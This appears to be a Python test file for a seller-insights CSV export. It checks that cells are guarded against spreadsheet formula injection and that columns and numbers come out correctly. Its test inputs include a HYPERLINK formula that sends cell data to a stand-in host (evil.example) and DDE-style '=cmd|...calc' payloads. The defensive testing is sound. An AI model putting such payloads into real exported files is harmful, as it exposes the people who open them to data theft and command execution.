"""The insights CSV and the cell every CSV is written with: cells are neutralised against
spreadsheet formula injection, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest

from csinsights.domain.catalogue import CSDR
from csinsights.domain.document import MetricsDocument
from csinsights.domain.documents import render_document
from csinsights.domain.figures import PREVENTABLE_RATE as PREVENTABLE
from csinsights.domain.figures import REASONS
from csinsights.domain.metrics import METRICS, Counts
from csinsights.reports import FORMULA_PREFIXES, safe_cell, to_csv
from tests.report_samples import good_line

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        FORMULA,
        "+SUM(A1:A2)",
        "-2+3",
        "@SUM(A1)",
        "\t=cmd",
        "=",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("x;=cmd|'/Ccalc'!A0", "x;'=cmd|'/Ccalc'!A0"),
        ('x;"=1', "x;'\"=1"),
        ("a\n@A1", "a\n'@A1"),
        ("\r=cmd", "\n'=cmd"),
        ("a\r\n@A1", "a\n'@A1"),
        ("a;b", "a;b"),
    ],
)
def test_text_a_semicolon_reader_would_cut_into_a_formula_is_quoted_there(
    cell: str, safe: str
) -> None:
    assert safe_cell(cell) == safe


@pytest.mark.parametrize(
    "cell",
    ["", "A1SELLER", "US", "shipping", "1+1", "a=b", "less_than", "2026-11-20T00:00:00Z", " x"],
)
def test_other_text_is_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("number", [0, 3, -5, 12.5, -0.25])
def test_numbers_are_unchanged(number: Any) -> None:
    assert safe_cell(number) is number


def test_none_is_empty_and_a_flag_is_yes_or_no() -> None:
    assert (safe_cell(None), safe_cell(True), safe_cell(False)) == ("", "yes", "no")


def document(seller: str = "A1SELLER", stores: tuple[str, ...] = ("CA", "US")) -> MetricsDocument:
    counts = {
        store: Counts(orders=4, contacts=2, preventable=1, responses=2, dissatisfied=1)
        for store in stores
    }
    return render_document(seller, date(2026, 11, 19), 28, counts, {})


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_a_header_and_a_row_per_scope_and_metric() -> None:
    rows = csv_rows(to_csv(document()))
    header, body = rows[0], rows[1:]
    assert header[:7] == [
        "seller_id",
        "as_of",
        "window_days",
        "store",
        "metric",
        "metric_label",
        "unit",
    ]
    assert len(body) == 3 * len(METRICS)
    assert [(r[3], r[4]) for r in body] == [
        (scope, metric) for scope in ("all", "CA", "US") for metric in METRICS
    ]


def test_csv_neutralises_every_cell_that_could_be_a_formula() -> None:
    """Seller and store ids cannot start with these characters by contract; a document
    that nonetheless carries such text anywhere (a store id, a reason) is still safe."""
    doc = document()
    doc.by_store[0].store_id = "=cmd|' /C calc'!A0"
    doc.by_store[1].store_id = "@SUM(1+1)*cmd|' /C calc'!A0"
    doc.metrics.preventable_contact_rate.reason = FORMULA
    doc.by_store[0].metrics.late_contacts.reason = "+1"
    doc.by_store[1].metrics.buyer_dissatisfaction_rate.reason = "\t-1"

    text = to_csv(doc)
    rows = csv_rows(text)
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert dangerous == []
    assert "'=cmd|' /C calc'!A0" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'" + FORMULA in cells
    assert "'+1" in cells
    assert "'\t-1" in cells


def test_csv_keeps_numbers_as_numbers() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
    row = next(r for r in rows if r["store"] == "all" and r["metric"] == "preventable_contact_rate")
    assert (row["value"], row["numerator"], row["denominator"]) == ("25.0", "2", "8")
    assert row["reason"] == ""  # None is an empty cell, not "None"


def test_csv_carries_the_insight_details_after_the_original_columns() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
    header = list(rows[0])
    assert header.index("reason") < header.index("data_through")
    csdr = next(r for r in rows if r["store"] == "CA" and r["metric"] == CSDR)
    assert csdr["data_through"] == "2026-11-19"
    assert (csdr["value"], csdr["to_target"], csdr["low_sample"]) == ("50.0", "3", "yes")
    assert (csdr["previous_value"], csdr["previous_denominator"]) == ("", "0")
    assert (csdr["change"], csdr["trend"]) == ("", "")
    assert csdr["hours_0-1"] == "" and csdr["contacts_shipping"] == ""
    prevent = next(r for r in rows if r["store"] == "all" and r["metric"] == PREVENTABLE)
    assert [prevent[f"contacts_{reason}"] for reason in REASONS] == ["0"] * len(REASONS)
    late = next(r for r in rows if r["store"] == "US" and r["metric"] == "late_contacts")
    assert (late["answered_late"], late["unanswered_late"], late["change"]) == ("0", "0", "0")
    assert late["low_sample"] == ""


def test_csv_states_each_metric_s_label_unit_and_target_in_words() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
    by = {(r["store"], r["metric"]): r for r in rows}
    csdr = by[("US", CSDR)]
    assert (csdr["metric_label"], csdr["unit"]) == (
        "Customer service dissatisfaction rate (%)",
        "%",
    )
    assert (csdr["target"], csdr["target_condition"], csdr["target_text"]) == (
        "25",
        "less_than",
        "below 25 %",
    )
    within = by[("all", "response_within_24h_rate")]
    assert within["target_text"] == "at least 90 %"
    late = by[("CA", "late_contacts")]
    assert (late["unit"], late["target_text"]) == ("contacts", "0 contacts")
    hours = by[("CA", "average_contact_response_time_hours")]
    assert (hours["unit"], hours["target_text"]) == ("hours", "")


def test_csv_states_the_good_line_as_the_target_and_no_sample_warning_on_na() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(good_line().document))))
    by = {(r["store"], r["metric"]): r for r in rows}
    reply = by[("US", "average_contact_response_time_hours")]
    assert (reply["value"], reply["status"]) == ("67.0", "poor")
    assert (reply["target"], reply["target_condition"]) == ("33.29", "less_than_or_equal")
    assert reply["target_text"] == (
        "at or below 33.29 h: the store average, better than the top performers' 83.78 h "
        "this period"
    )
    assert (reply["store_average"], reply["top_performers"], reply["low_sample"]) == (
        "33.29",
        "83.78",
        "yes",
    )
    na = by[("CA", CSDR)]
    assert (na["value"], na["reason"], na["status"], na["low_sample"]) == (
        "",
        "no_responses",
        "na",
        "",
    )
    withheld = by[("CA", "average_contact_response_time_hours")]
    assert (withheld["status"], withheld["target"], withheld["target_text"]) == ("na", "", "")


def test_csv_carries_what_comes_next_in_the_last_columns() -> None:
    counts = {"US": Counts(responses=4, dissatisfied=2, answered_late=3)}
    ahead = {"US": Counts(responses=3, dissatisfied=1, unanswered_over_48h=1)}
    doc = render_document("A1SELLER", date(2026, 11, 19), 28, counts, {}, projected=ahead)
    rows = list(csv.DictReader(io.StringIO(to_csv(doc))))
    # Last but for the arrival cells' 84 columns, added after them.
    header = [c for c in rows[0] if not c.startswith("arrival_")]
    assert len(rows[0]) - len(header) == 84
    assert header[-4:] == [
        "projected_as_of",
        "projected_value",
        "projected_numerator",
        "projected_denominator",
    ]
    by = {(r["store"], r["metric"]): r for r in rows}
    for scope in ("all", "US"):
        csdr, late = by[(scope, CSDR)], by[(scope, "late_contacts")]
        assert (csdr["value"], csdr["projected_as_of"]) == ("50.0", "2026-11-27T00:00:00Z")
        assert (csdr["projected_value"], csdr["projected_numerator"]) == ("33.33", "1")
        assert csdr["projected_denominator"] == "3"
        assert (late["value"], late["projected_value"], late["projected_numerator"]) == (
            "3",
            "1",
            "",
        )
        reply = by[(scope, "average_contact_response_time_hours")]
        assert (reply["projected_value"], reply["projected_denominator"]) == ("", "0")


def test_csv_leaves_the_projection_empty_where_none_was_kept() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
    assert {r["projected_as_of"] for r in rows} == {""}
    assert {r["projected_value"] for r in rows} == {""}
